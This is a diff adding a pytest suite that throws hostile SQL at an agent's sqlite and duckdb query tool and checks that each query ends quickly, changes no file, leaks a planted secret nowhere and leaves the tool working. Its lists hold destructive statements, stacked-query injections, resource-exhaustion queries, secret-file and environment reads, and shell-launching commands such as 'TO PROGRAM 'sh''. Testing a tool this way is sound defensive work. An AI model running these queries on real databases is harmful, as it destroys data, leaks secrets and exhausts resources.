@@ -1,0 +1,207 @@
+"""Attacks on the sql tool: each ends soon, changes nothing, shows nothing that it should not, and the tool works on."""
+
+import asyncio
+import hashlib
+import time
+
+import pytest
+
+from agent_rl.errors import ToolError, ToolTimeoutError
+from agent_rl.tools.builtin.sql import Sql
+from tests.tools.builtin.test_sql import make_databases
+
+TIMEOUT_S = 0.4
+SECRET = "root:x:0:marker"
+BOTH = [
+    # writing
+    "INSERT INTO singer VALUES (9, 'x', 1)",
+    "UPDATE singer SET age = 0",
+    "DELETE FROM song",
+    "DROP TABLE song",
+    "DROP VIEW adult",
+    "ALTER TABLE singer ADD COLUMN z INTEGER",
+    "CREATE TABLE z AS SELECT 1 AS a",
+    "CREATE TEMP TABLE z AS SELECT 1 AS a",
+    "CREATE INDEX i ON singer(name)",
+    "REPLACE INTO singer VALUES (1, 'x', 1)",
+    "VACUUM",
+    "ANALYZE",
+    "BEGIN",
+    "ROLLBACK",
+    "WITH a AS (SELECT 1) INSERT INTO singer SELECT 9, 'x', 1",
+    "DELETE FROM song RETURNING *",
+    "EXPLAIN DELETE FROM song",
+    # several statements, and what looks like one
+    "SELECT 1; DROP TABLE song",
+    "SELECT 1;;DELETE FROM song",
+    "SELECT 1 /* ; */; DELETE FROM song --",
+    "SELECT 1) ; DELETE FROM song; SELECT (1",
+    "SELECT 1) UNION SELECT name FROM (SELECT 1",
+    "SELECT 1 -- \n; DELETE FROM song",
+    "SELECT 1;\0DELETE FROM song",
+    # characters
+    "\0",
+    "\ud800",
+    "SELECT '\ud800'",
+    "ＳＥＬＥＣＴ １",  # noqa: RUF001 - full-width
+    "SELECT\u00a01",
+    "SELECT \u202e1",
+    "DR\u200bOP TABLE song",
+    "SELECT '" + "😀" * 5000 + "'",
+    "SELECT '",
+    "/*",
+    ";" * 10_000,
+    ".shell ls",
+    ".schema " + "a" * 10_000,
+    "describe " + " " * 15_000 + "!",
+    "DESCRIBE singer; DROP TABLE song",
+    # nesting and size
+    "SELECT " + "(" * 5000 + "1" + ")" * 5000,
+    "SELECT " + "-" * 1 + " -".join([""] * 5000) + "1",
+    "SELECT " + "1+" * 9000 + "1",
+    "SELECT " + "NOT " * 4000 + "1",
+    "SELECT * FROM " + "(SELECT * FROM " * 500 + "singer" + ")" * 500,
+    " UNION ALL ".join(["SELECT 1"] * 1200),
+    "SELECT " + ",".join(["*"] * 3000) + " FROM song",
+    "SELECT 1 AS " + "a" * 15_000,
+    "SELECT * FROM song " + " ".join(f"JOIN song s{n} ON true" for n in range(60)),
+    "SELECT " + "CASE WHEN 1 THEN " * 800 + "1" + " END" * 800,
+    "x" * 10_000_000,
+    # endless
+    "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT count(*) FROM r",
+    "SELECT count(*) FROM song a, song b, song c, song d, song e",
+    "SELECT * FROM song a, song b, song c, song d ORDER BY a.title || b.title || c.title",
+    # another file
+    "ATTACH '{new}' AS z",
+    "ATTACH '{secret}' AS z",
+    "VACUUM INTO '{new}'",
+    "SELECT readfile('{secret}')",
+    "SELECT writefile('{new}', 'x')",
+    "SELECT load_extension('{secret}')",
+    "SELECT * FROM '{secret}'",
+    "LOAD '{secret}'",
+]
+SQLITE = [
+    "SELECT hex(zeroblob(900000000))",
+    "SELECT length(hex(randomblob(1000000000)))",
+    "SELECT printf('%1000000000d', 1)",
+    "SELECT printf('%.*c', 1000000000, 'x')",
+    "SELECT replace(hex(zeroblob(100000)), '0', hex(zeroblob(2000)))",
+    "SELECT instr(hex(zeroblob(5000000)), hex(zeroblob(2000000)) || '1')",
+    "SELECT hex(zeroblob(1000000)) LIKE '" + "%0" * 400 + "1'",
+    "SELECT group_concat(hex(zeroblob(100000))) FROM song a, song b",
+    "WITH RECURSIVE r(s) AS (SELECT 'x' UNION ALL SELECT s || s FROM r) SELECT length(s) FROM r",
+    "SELECT json_group_array(a.title || b.title) FROM song a, song b, song c",
+    "SELECT 1" + ", zeroblob(1000000)" * 800,
+    "PRAGMA journal_mode = WAL",
+    "PRAGMA writable_schema = 1",
+    "PRAGMA query_only = 0",
+    "PRAGMA temp_store_directory = '/tmp'",
+    "PRAGMA hard_heap_limit = 0",
+    "PRAGMA user_version = 7",
+    "PRAGMA wal_checkpoint",
+    "PRAGMA table_info(singer); DELETE FROM song",
+    "SELECT * FROM pragma_journal_mode('wal')",
+    "ATTACH ':memory:' AS z",
+    "ATTACH 'file:{new}?mode=rwc' AS z",
+    "CREATE VIRTUAL TABLE z USING fts5(a)",
+    "SELECT fts3_tokenizer('simple', x'41414141')",
+    "SELECT edit('x', 'sh')",
+    "DETACH main",
+    "REINDEX",
+    "SELECT abs(-9223372036854775808)",
+]
+DUCKDB = [
+    "SELECT repeat('a', 1000000000)",
+    "SELECT length(repeat(repeat('a', 1000000), 1000000))",
+    "SELECT levenshtein(repeat('ab', 100000), repeat('ba', 100000))",
+    "SELECT sleep_ms(100000)",
+    "SELECT list_sum(range(1000000000))",
+    "SELECT count(*) FROM range(1000000000000)",
+    "SELECT list(i) FROM range(1000000000) t(i)",
+    "SELECT string_agg(repeat('z', 1000), ',') FROM range(100000000)",
+    "SELECT repeat('1', 100000000)::BIT",
+    "SELECT lpad('x', 2000000000, 'y')",
+    "SELECT 100000!",
+    "COPY song TO '{new}'",
+    "COPY song FROM '{secret}'",
+    "COPY (SELECT 1) TO PROGRAM 'sh'",
+    "EXPLAIN COPY song TO '{new}'",
+    "EXPLAIN ANALYZE COPY song TO '{new}'",
+    "EXPORT DATABASE '{new}'",
+    "IMPORT DATABASE '{new}'",
+    "SELECT * FROM read_csv('{secret}')",
+    "SELECT * FROM read_text('{secret}')",
+    "SELECT * FROM read_blob('{secret}')",
+    "SELECT * FROM read_json('{secret}')",
+    "SELECT * FROM read_parquet('{secret}')",
+    "SELECT * FROM sniff_csv('{secret}')",
+    "SELECT * FROM query('SELECT * FROM read_text(''{secret}'')')",
+    "SELECT * FROM query_table('{secret}')",
+    "SELECT * FROM glob('{folder}/*')",
+    "SELECT * FROM 'https://example.com/x.csv'",
+    "SELECT getenv('HOSTILE_KEY')",
+    "INSTALL httpfs",
+    "FORCE INSTALL httpfs FROM 'http://example.com'",
+    "SET enable_external_access = true",
+    "SET memory_limit = '100GB'",
+    "RESET lock_configuration",
+    "PRAGMA enable_profiling",
+    "PRAGMA database_list",
+    "CALL enable_logging(storage = 'file', storage_path = '{new}')",
+    "SET VARIABLE a = 1",
+    "USE memory",
+    "CREATE SECRET s (TYPE s3)",
+    "CREATE MACRO f(a) AS a",
+    "PREPARE p AS SELECT 1",
+    "CHECKPOINT",
+    "PIVOT song ON title USING count(*)",
+    "WITH i AS (INSERT INTO singer VALUES (9, 'x', 1) RETURNING id) SELECT * FROM i",
+    "EXPLAIN ANALYZE DELETE FROM song",
+    "SELECT * FROM sys.modules",
+    "SELECT * FROM connection",
+]
+CASES = [(engine, query) for engine in ("sqlite", "duckdb") for query in BOTH]
+CASES += [("sqlite", query) for query in SQLITE] + [("duckdb", query) for query in DUCKDB]
+
+
+class Target:
+    """A database of each engine in one folder, a file with a secret beside them, and how all that looked at first."""
+
+    def __init__(self, folder):
+        self.files = make_databases(folder)
+        self.folder = folder
+        self.places = {"{new}": f"{folder}/new", "{secret}": f"{folder}/secret.csv", "{folder}": str(folder)}
+        (folder / "secret.csv").write_text(f"a,b\n{SECRET},1\n")
+        self.before = self.look()
+
+    def look(self):
+        return {path.name: hashlib.sha256(path.read_bytes()).hexdigest() for path in self.folder.iterdir()}
+
+    def ask(self, engine, query, timeout_s):
+        tool = Sql({"database": str(self.files[engine]), "timeout_s": timeout_s, "memory_mb": 128}, {})
+        asyncio.run(tool.start())
+        return tool.call({"query": query})
+
+
+@pytest.fixture(scope="module")
+def target(tmp_path_factory):
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setenv("HOSTILE_KEY", SECRET)
+        yield Target(tmp_path_factory.mktemp("hostile"))
+
+
+@pytest.mark.parametrize(("engine", "query"), CASES, ids=lambda value: ascii(value[:40]))
+def test_hostile(target, engine, query):
+    for place, path in target.places.items():
+        query = query.replace(place, path)
+    started = time.monotonic()
+    try:
+        outcome = target.ask(engine, query, TIMEOUT_S)
+    except (ToolError, ToolTimeoutError) as error:  # the policy's own mistake; anything else fails the test
+        outcome = str(error)
+    assert time.monotonic() - started < 20
+    assert len(outcome) < 10_000
+    assert SECRET not in outcome
+    assert target.look() == target.before
+    assert target.ask(engine, "SELECT count(*) AS n FROM song", 60) == "n\n---\n200\n(1 row)"
